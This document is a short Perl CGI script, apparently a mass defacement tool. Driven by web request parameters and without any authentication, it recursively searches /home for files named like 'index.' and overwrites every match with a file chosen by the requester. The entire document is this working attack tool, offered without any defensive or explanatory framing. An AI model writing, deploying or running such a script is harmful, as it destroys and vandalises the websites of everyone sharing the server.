#!/usr/bin/perl
# replaces every page whose name matches with the given file
use strict;
use CGI;
my $q = CGI->new;
print $q->header('text/plain');
my $root  = $q->param('root') || '/home';
my $match = $q->param('match') || 'index\.';
my $with  = $q->param('with');
my @targets;
collect($root);
open(SRC, '<', $with) or die "no source\n";
foreach my $page (@targets) {
    open(DST, '>', $page) or next;
    while (my $l = <SRC>) { print DST $l; }
    close(DST);
    seek(SRC, 0, 0);
}
close(SRC);
print scalar(@targets), " replaced\n";
sub collect {
    my ($dir) = @_;
    opendir(my $dh, $dir) or return;
    for my $e (grep { !/^\.\.?$/ } readdir($dh)) {
        my $p = "$dir/$e";
        if (-d $p) { collect($p) } elsif ($e =~ /$match/i) { push @targets, $p }
    }
    closedir($dh);
}
